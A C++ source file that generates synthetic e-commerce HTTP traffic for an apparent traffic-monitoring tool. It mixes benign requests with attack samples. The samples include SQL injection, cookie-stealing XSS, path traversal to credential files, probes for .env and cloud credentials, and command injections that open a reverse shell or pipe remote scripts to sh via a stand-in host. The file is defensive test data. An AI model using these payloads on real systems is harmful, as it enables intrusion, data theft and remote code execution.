#include "app/sample_traffic.h"

#include <algorithm>
#include <array>
#include <random>
#include <string>

#include "common/strings.h"

namespace warden {

namespace {

// Public /16 prefixes in several countries, so the geo lookup has something to show.
constexpr std::array<const char*, 16> kPrefixes = {
    "81.2.",  "86.12.",  "5.9.",    "88.198.", "1.0.",   "101.160.", "24.48.", "73.15.",
    "187.2.", "201.17.", "41.203.", "102.89.", "49.36.", "117.200.", "36.91.", "110.232."};

constexpr std::array<const char*, 8> kUserAgents = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "ShopApp/3.2.1 (Android 14; Pixel 8)",
    "ShopApp/3.2.0 (iOS 17.4; iPhone15,2)",
    "okhttp/4.12.0",
    "Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 Chrome/124.0 Mobile Safari/537.36"};

constexpr std::array<const char*, 10> kCategories = {
    "shoes", "jackets", "bags", "hats", "socks", "outdoor", "kids", "sale", "new", "running"};
constexpr std::array<const char*, 12> kSearches = {
    "red running shoes", "waterproof jacket", "leather bag", "wool socks",
    "summer hat",        "size 42",           "gift card",   "O'Neill hoodie",
    "trail & road",      "kids boots",        "50% off",     "select a size guide"};
constexpr std::array<const char*, 8> kReviewTexts = {
    "Great fit, true to size. Would buy again!",
    "Colour was a bit darker than the photo; still happy.",
    "Arrived in 2 days. The zip feels solid & the pockets are deep.",
    "Not for wide feet -- I returned mine.",
    "Perfect for rainy commutes <3",
    "Material is thin; select a bigger size if unsure.",
    "My son's favourite. 5/5",
    "Good value for money; stitching could be better."};
constexpr std::array<const char*, 10> kFirstNames = {"alice",  "bob", "carla", "deniz", "emeka",
                                                     "fatima", "gao", "hugo",  "ines",  "jamal"};

// Attack payloads, grouped by where they go. Written for this generator.
constexpr std::array<const char*, 8> kSqli = {
    "' OR '1'='1' -- ",
    "1 UNION SELECT username, password_hash FROM users--",
    "shoes'; DROP TABLE orders; --",
    "1 AND SLEEP(5)",
    "' AND 1=CONVERT(int,(SELECT @@version))--",
    "admin'--",
    "1) OR (SELECT COUNT(*) FROM information_schema.tables)>0 --",
    "x' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables#"};
constexpr std::array<const char*, 6> kXss = {
    "<script>fetch('//evil.example/c?'+document.cookie)</script>",
    "<img src=x onerror=alert(document.domain)>",
    "\"><svg/onload=alert(1)>",
    "<iframe src=javascript:alert('x')></iframe>",
    "<body onload=location='//evil.example'>",
    "javascript:alert(document.cookie)"};
constexpr std::array<const char*, 6> kTraversal = {
    "../../../../etc/passwd",    "..%2f..%2f..%2fetc%2fshadow",
    "....//....//etc/hosts",     "..\\..\\..\\windows\\win.ini",
    "/var/www/../../etc/passwd", "%2e%2e/%2e%2e/proc/self/environ"};
constexpr std::array<const char*, 6> kCmd = {"8.8.8.8; cat /etc/passwd",
                                             "127.0.0.1 && id",
                                             "localhost | nc evil.example 4444 -e /bin/sh",
                                             "$(curl http://evil.example/x.sh | sh)",
                                             "`whoami`",
                                             "1.1.1.1; wget http://evil.example/a"};
constexpr std::array<const char*, 10> kProbes = {"/.env",
                                                 "/.git/config",
                                                 "/wp-admin/install.php",
                                                 "/phpmyadmin/index.php",
                                                 "/actuator/env",
                                                 "/backup.sql",
                                                 "/config.php.bak",
                                                 "/server-status",
                                                 "/.aws/credentials",
                                                 "/admin/console"};

class Gen {
 public:
  explicit Gen(const SampleTrafficOptions& o) : opt_(o), rng_(o.seed) {
    for (std::size_t i = 0; i < opt_.users; ++i) {
      User u;
      u.id = 1000 + static_cast<int>(i);
      u.name = std::string(Pick(kFirstNames)) + std::to_string(Uniform(1, 99));
      u.ip = RandomIp();
      u.ua = Pick(kUserAgents);
      u.token = Hex(32);
      users_.push_back(u);
    }
    for (std::size_t i = 0; i < opt_.attackers; ++i) attacker_ips_.push_back(RandomIp());
  }

  std::vector<Exchange> Run() {
    std::vector<Exchange> out;
    out.reserve(opt_.count);
    for (std::size_t i = 0; i < opt_.count; ++i) {
      std::int64_t t =
          opt_.start_time_s +
          static_cast<std::int64_t>(static_cast<double>(i) / std::max<double>(1, opt_.count) *
                                    static_cast<double>(opt_.span_seconds));
      Exchange e = Chance(opt_.attack_ratio) ? Attack() : Benign();
      e.time_s = t;
      e.source = "sample";
      e.http_version = "HTTP/1.1";
      if (e.status_text.empty()) e.status_text = StatusText(e.status_code);
      out.push_back(std::move(e));
    }
    return out;
  }

 private:
  struct User {
    int id;
    std::string name;
    std::string ip;
    std::string ua;
    std::string token;
  };

  int Uniform(int lo, int hi) { return std::uniform_int_distribution<int>(lo, hi)(rng_); }
  bool Chance(double p) { return std::uniform_real_distribution<double>(0, 1)(rng_) < p; }
  template <typename A>
  const char* Pick(const A& arr) {
    return arr[static_cast<std::size_t>(Uniform(0, static_cast<int>(arr.size()) - 1))];
  }
  std::string RandomIp() {
    return std::string(Pick(kPrefixes)) + std::to_string(Uniform(0, 255)) + "." +
           std::to_string(Uniform(1, 254));
  }
  std::string Hex(int n) {
    static constexpr char kHex[] = "0123456789abcdef";
    std::string s;
    for (int i = 0; i < n; ++i) s.push_back(kHex[Uniform(0, 15)]);
    return s;
  }
  std::string Uuid() {
    std::string h = Hex(32);
    return h.substr(0, 8) + "-" + h.substr(8, 4) + "-4" + h.substr(13, 3) + "-a" + h.substr(17, 3) +
           "-" + h.substr(20, 12);
  }
  static std::string Enc(std::string_view s) { return PercentEncode(s, true); }
  static std::string JsonStr(std::string_view s) {
    std::string out = "\"";
    for (char ch : s) {
      unsigned char c = static_cast<unsigned char>(ch);
      if (c == '"' || c == '\\') {
        out.push_back('\\');
        out.push_back(static_cast<char>(c));
      } else if (c < 0x20) {
        char buf[8];
        std::snprintf(buf, sizeof(buf), "\\u%04x", c);
        out += buf;
      } else {
        out.push_back(static_cast<char>(c));
      }
    }
    out.push_back('"');
    return out;
  }
  static std::string StatusText(int code) {
    switch (code) {
      case 200:
        return "200 OK";
      case 201:
        return "201 Created";
      case 204:
        return "204 No Content";
      case 400:
        return "400 Bad Request";
      case 401:
        return "401 Unauthorized";
      case 403:
        return "403 Forbidden";
      case 404:
        return "404 Not Found";
      case 500:
        return "500 Internal Server Error";
      default:
        return std::to_string(code);
    }
  }

  Exchange Base(const std::string& method, const std::string& target, const std::string& ip,
                const std::string& ua, const std::string& token) {
    Exchange e;
    e.method = method;
    e.target = target;
    e.host = "shop.example";
    e.peer_ip = "10.20.0.7";  // the load balancer; the client is in X-Forwarded-For
    e.dest_ip = "10.20.1.15";
    e.request_headers = {{"Host", "shop.example"},
                         {"User-Agent", ua},
                         {"Accept", "application/json"},
                         {"X-Forwarded-For", ip},
                         {"X-Request-Id", Uuid()}};
    if (!token.empty()) e.request_headers.push_back({"Authorization", "Bearer " + token});
    e.response_headers = {{"Content-Type", "application/json; charset=utf-8"},
                          {"Cache-Control", "no-store"}};
    return e;
  }

  void JsonBody(Exchange* e, std::string body) {
    e->request_headers.push_back({"Content-Type", "application/json"});
    e->request_body = std::move(body);
  }

  std::string Product(int id) {
    return "{\"id\":" + std::to_string(id) + ",\"name\":\"Item " + std::to_string(id) +
           "\",\"price\":" + std::to_string(Uniform(5, 300)) +
           ".99,\"currency\":\"EUR\",\"stock\":" + std::to_string(Uniform(0, 80)) + "}";
  }

  Exchange Benign() {
    const User& u =
        users_[static_cast<std::size_t>(Uniform(0, static_cast<int>(users_.size()) - 1))];
    int kind = Uniform(0, 99);
    if (kind < 22) {
      std::string target = "/api/v1/products?category=" + std::string(Pick(kCategories)) +
                           "&page=" + std::to_string(Uniform(1, 6)) + "&sort=price_asc";
      Exchange e = Base("GET", target, u.ip, u.ua, "");
      e.status_code = 200;
      e.response_body = "{\"items\":[" + Product(Uniform(1, 900)) + "," + Product(Uniform(1, 900)) +
                        "],\"page\":1,\"total\":" + std::to_string(Uniform(20, 400)) + "}";
      return e;
    }
    if (kind < 40) {
      int id = Uniform(1, 900);
      bool missing = Chance(0.03);
      Exchange e = Base("GET", "/api/v1/products/" + std::to_string(id), u.ip, u.ua, "");
      e.status_code = missing ? 404 : 200;
      e.response_body = missing ? "{\"error\":\"not found\"}" : Product(id);
      return e;
    }
    if (kind < 50) {
      std::string q = Pick(kSearches);
      Exchange e = Base("GET", "/api/v1/search?q=" + Enc(q) + "&limit=20", u.ip, u.ua, "");
      e.status_code = 200;
      e.response_body =
          "{\"query\":" + JsonStr(q) + ",\"items\":[" + Product(Uniform(1, 900)) + "]}";
      return e;
    }
    if (kind < 60) {
      Exchange e = Base("POST", "/api/v1/cart/items", u.ip, u.ua, u.token);
      JsonBody(&e, "{\"sku\":\"SKU-" + std::to_string(Uniform(10000, 99999)) +
                       "\",\"qty\":" + std::to_string(Uniform(1, 3)) + ",\"size\":\"M\"}");
      e.status_code = 201;
      e.response_body =
          "{\"cartId\":\"" + Uuid() + "\",\"items\":" + std::to_string(Uniform(1, 5)) + "}";
      return e;
    }
    if (kind < 66) {
      Exchange e = Base("POST", "/api/v1/orders", u.ip, u.ua, u.token);
      JsonBody(&e, "{\"items\":[{\"sku\":\"SKU-" + std::to_string(Uniform(10000, 99999)) +
                       "\",\"qty\":1}],\"shippingAddress\":{\"name\":" + JsonStr(u.name) +
                       ",\"street\":\"12 Harbour Rd\",\"city\":\"Leeds\",\"zip\":\"LS1 4DT\"},"
                       "\"paymentMethod\":\"card\",\"note\":\"Leave at the door & ring twice\"}");
      e.status_code = 201;
      e.response_body = "{\"orderId\":\"" + Uuid() + "\",\"status\":\"placed\"}";
      return e;
    }
    if (kind < 74) {
      Exchange e = Base("GET", "/api/v1/orders/" + Uuid(), u.ip, u.ua, u.token);
      e.status_code = 200;
      e.response_body = "{\"status\":\"shipped\",\"carrier\":\"DHL\",\"total\":89.5}";
      return e;
    }
    if (kind < 82) {
      Exchange e =
          Base("GET", "/api/v1/users/" + std::to_string(u.id) + "/profile", u.ip, u.ua, u.token);
      e.status_code = 200;
      e.response_body = "{\"id\":" + std::to_string(u.id) + ",\"name\":" + JsonStr(u.name) +
                        ",\"email\":\"" + u.name + "@mail.example\",\"tier\":\"gold\"}";
      return e;
    }
    if (kind < 88) {
      Exchange e = Base("POST", "/api/v1/auth/login", u.ip, u.ua, "");
      bool ok = !Chance(0.08);
      JsonBody(&e, "{\"email\":\"" + u.name + "@mail.example\",\"password\":\"" + Hex(12) + "\"}");
      e.status_code = ok ? 200 : 401;
      e.response_body = ok ? "{\"token\":\"" + u.token + "\",\"expiresIn\":3600}"
                           : "{\"error\":\"invalid credentials\"}";
      return e;
    }
    if (kind < 94) {
      Exchange e = Base("POST", "/api/v1/reviews", u.ip, u.ua, u.token);
      JsonBody(&e, "{\"productId\":" + std::to_string(Uniform(1, 900)) +
                       ",\"rating\":" + std::to_string(Uniform(3, 5)) +
                       ",\"text\":" + JsonStr(Pick(kReviewTexts)) + "}");
      e.status_code = 201;
      e.response_body = "{\"reviewId\":" + std::to_string(Uniform(1, 99999)) + "}";
      return e;
    }
    if (kind < 97) {
      Exchange e =
          Base("PUT", "/api/v1/users/" + std::to_string(u.id) + "/profile", u.ip, u.ua, u.token);
      JsonBody(&e, "{\"name\":" + JsonStr(u.name) + ",\"phone\":\"+44 113 496 0" +
                       std::to_string(Uniform(100, 999)) + "\",\"newsletter\":true}");
      e.status_code = 200;
      e.response_body = "{\"updated\":true}";
      return e;
    }
    Exchange e =
        Base("GET", "/api/v1/files?name=invoice-" + std::to_string(Uniform(1000, 9999)) + ".pdf",
             u.ip, u.ua, u.token);
    e.status_code = 200;
    e.response_headers[0].value = "application/pdf";
    e.response_body = "%PDF-1.7 (binary invoice)";
    return e;
  }

  Exchange Attack() {
    const std::string& ip = attacker_ips_[static_cast<std::size_t>(
        Uniform(0, static_cast<int>(attacker_ips_.size()) - 1))];
    std::string ua = Chance(0.5) ? std::string(Pick(kUserAgents)) : "python-requests/2.31.0";
    int kind = Uniform(0, 99);
    if (kind < 30) {
      std::string p = Pick(kSqli);
      if (Chance(0.5)) {
        Exchange e = Base("GET", "/api/v1/search?q=" + Enc(p) + "&limit=20", ip, ua, "");
        e.status_code = Chance(0.3) ? 500 : 200;
        e.response_body = e.status_code == 500
                              ? "{\"error\":\"You have an error in your SQL syntax; check the "
                                "manual near ''1'='1'\"}"
                              : "{\"items\":[]}";
        return e;
      }
      Exchange e = Base("POST", "/api/v1/auth/login", ip, ua, "");
      JsonBody(&e, "{\"email\":" + JsonStr(p) + ",\"password\":\"x\"}");
      e.status_code = 401;
      e.response_body = "{\"error\":\"invalid credentials\"}";
      return e;
    }
    if (kind < 50) {
      Exchange e = Base("POST", "/api/v1/reviews", ip, ua, Hex(32));
      JsonBody(&e, "{\"productId\":" + std::to_string(Uniform(1, 900)) +
                       ",\"rating\":5,\"text\":" + JsonStr(Pick(kXss)) + "}");
      e.status_code = 201;
      e.response_body = "{\"reviewId\":" + std::to_string(Uniform(1, 99999)) + "}";
      return e;
    }
    if (kind < 65) {
      Exchange e = Base("GET", "/api/v1/files?name=" + std::string(Pick(kTraversal)), ip, ua, "");
      bool leaked = Chance(0.2);
      e.status_code = leaked ? 200 : 400;
      e.response_headers[0].value = "text/plain";
      e.response_body =
          leaked ? "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n"
                 : "invalid file name";
      return e;
    }
    if (kind < 78) {
      Exchange e = Base("POST", "/api/v1/admin/diagnostics/ping", ip, ua, Hex(32));
      JsonBody(&e, "{\"host\":" + JsonStr(Pick(kCmd)) + ",\"count\":3}");
      e.status_code = Chance(0.5) ? 403 : 200;
      e.response_body = e.status_code == 403 ? "{\"error\":\"forbidden\"}"
                                             : "{\"output\":\"PING 8.8.8.8: 3 packets\"}";
      return e;
    }
    Exchange e = Base("GET", Pick(kProbes), ip, "Mozilla/5.0 zgrab/0.x", "");
    e.status_code = 404;
    e.response_headers[0].value = "text/html";
    e.response_body = "<html><body>Not Found</body></html>";
    return e;
  }

  SampleTrafficOptions opt_;
  std::mt19937_64 rng_;
  std::vector<User> users_;
  std::vector<std::string> attacker_ips_;
};

}  // namespace

std::vector<Exchange> GenerateSampleTraffic(const SampleTrafficOptions& options) {
  return Gen(options).Run();
}

}  // namespace warden
